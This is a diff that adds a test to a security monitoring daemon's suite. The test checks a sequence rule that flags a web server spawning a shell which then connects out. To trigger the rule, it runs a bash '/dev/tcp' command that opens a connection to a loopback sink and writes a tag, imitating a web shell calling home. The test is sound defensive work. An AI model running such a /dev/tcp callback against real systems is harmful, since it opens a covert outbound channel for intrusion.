@@ -378,3 +378,59 @@ def test_record_then_replay_with_rules_test(daemon, tmp_path) -> None:
     assert r.returncode == 0, r.stdout + r.stderr
     found = [json.loads(x) for x in r.stdout.splitlines()]
     assert any(f"web server python (pid {app.pid})" in m["output"] for m in found), found
+
+
+SEQUENCE_RULE = """\
+- rule: "Test: web shell calls out"
+  description: The default pack's sequence, with loopback allowed (tests have no other net).
+  sequence:
+    - event: accept
+      condition: web_server
+    - event: exec
+      condition: process.name in (shell_binaries)
+    - event: connect
+      condition: connection.result = 0 and connection.remote_port = {port}
+  within: 1m
+  severity: high
+  tags: [T1505.003]
+  output: "{{process.name}} called {{connection.remote_ip}}:{{connection.remote_port}} below {{ancestor.name}} (pid {{ancestor.pid}})"
+"""
+SHELL_APP = r"""
+import socket, subprocess, sys
+srv = socket.socket()
+srv.bind(("127.0.0.1", 0))
+srv.listen(1)
+print(srv.getsockname()[1], flush=True)
+conn, _ = srv.accept()
+conn.recv(100)
+subprocess.run(["/bin/bash", "-c", sys.argv[1]])
+conn.sendall(b"done")
+conn.close()
+"""
+
+
+def test_sequence_rule_on_the_real_kernel(daemon, sink) -> None:
+    """accept by a listening app -> a shell below it -> that shell connects: one finding."""
+    (daemon.local / "sequence.yaml").write_text(SEQUENCE_RULE.format(port=sink.port))
+    try:
+        assert daemon.ctl("reload").returncode == 0
+        tag = "spy" + uuid.uuid4().hex[:10]
+        cmd = f"exec 3<>/dev/tcp/127.0.0.1/{sink.port}; echo {tag} >&3"
+        app = subprocess.Popen([sys.executable, "-c", SHELL_APP, cmd], stdout=subprocess.PIPE,
+                               text=True)  # fmt: skip
+        port = int(app.stdout.readline())
+        time.sleep(0.5)  # the app's listen event first
+        with socket.create_connection(("127.0.0.1", port), timeout=10) as c:
+            c.sendall(b"GET /")
+            assert c.recv(10) == b"done"
+        app.wait(10)
+        entry = expect(daemon, "Test: web shell calls out", tag, "T1505.003",
+                       chain=f"[{app.pid}] > bash[")  # fmt: skip
+        assert f"below python (pid {app.pid})" in entry["MESSAGE"], entry["MESSAGE"]
+        assert f"127.0.0.1:{sink.port}" in entry["MESSAGE"]
+        st = json.loads(daemon.ctl("status", "-o", "json", check=True).stdout)
+        seq = st["rules_stats"]["sequences"]["Test: web shell calls out"]
+        assert seq["completed"] >= 1 and seq["started"] >= 1, seq
+    finally:
+        (daemon.local / "sequence.yaml").unlink()
+        daemon.ctl("reload", check=True)
